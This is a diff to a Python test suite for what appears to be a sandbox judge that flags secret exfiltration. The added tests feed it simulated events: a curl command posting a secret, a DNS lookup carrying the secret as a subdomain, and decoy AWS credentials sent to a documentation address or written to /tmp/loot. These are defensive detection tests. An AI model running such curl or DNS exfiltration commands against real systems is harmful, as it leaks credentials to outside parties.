@@ -192,10 +192,40 @@ def test_what_was_sent_and_what_was_kept_are_named() -> None:
 
 
 def test_the_host_s_own_look_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr("sandbox.judge.dynamic._MOST_SEARCHED", 1000)
+    monkeypatch.setattr("sandbox.judge.second_look._MOST_SEARCHED", 1000)
     long, hit = replace(SAID, sent=bytes(1000)), replace(SAID, sent=SECRET.encode())
     assert judge(dynamic(conversations=(hit, long)), RULES).findings
     assert not judge(dynamic(conversations=(long, hit)), RULES).findings
+
+
+def test_a_planted_tools_word_holds_its_environment_and_is_no_theft() -> None:
+    word = replace(SAID, address="192.0.2.1", port=9, sent=b'{"environment": {"KEY": "%s"}}' % SECRET.encode())
+    assert not judge(dynamic(conversations=(word,)), RULES).findings
+    assert not judge(dynamic(conversations=(replace(word, address="::ffff:192.0.2.1"),)), RULES).findings
+    assert judge(dynamic(conversations=(replace(word, port=80),)), RULES).findings
+    run = event("process.exec", "execve", path="/usr/bin/curl", argv=f"curl -d {SECRET} x")
+    found = judge(dynamic(events=(run,), conversations=(word,)), RULES).findings
+    assert "decoy.sent" in {finding.rule for finding in found}
+
+
+def test_a_theft_that_the_finder_told_is_told_once() -> None:
+    carried = (replace(SAID, sent=SECRET.encode()),)
+    sent = event("decoy.sent", "finder", name="AWS credentials", address="203.0.113.9", port="80", value="plain")
+    asked = event("net.dns", "sendto", name=f"{SECRET}.example.invalid")
+    kept = (replace(KEPT, content=SECRET.encode()),)
+    found = judge(dynamic(events=(sent, asked), conversations=carried, artifacts=kept), RULES).findings
+    assert {finding.rule for finding in found} == {"event.exfiltration", "event.dns"}
+    other = replace(sent, detail=sent.detail | {"name": "another"})
+    found = judge(dynamic(events=(other,), conversations=carried), RULES).findings
+    assert {finding.rule for finding in found} == {"event.exfiltration", "decoy.sent"}
+    written = event("decoy.written", "finder", name="AWS credentials", path="/tmp/loot")
+    found = judge(dynamic(events=(written,), artifacts=kept), RULES).findings
+    assert {finding.rule for finding in found} == {"event.exfiltration.collected"}
+    found = judge(dynamic(events=(written,), conversations=carried), RULES).findings
+    assert "decoy.sent" in {finding.rule for finding in found}
+    run = event("process.exec", "execve", path="/usr/bin/curl", argv=f"curl -d {SECRET} x")
+    found = judge(dynamic(events=(sent, run)), RULES).findings
+    assert "decoy.sent" in {finding.rule for finding in found}
 
 
 def test_many_secrets_in_much_text_take_little_time() -> None:
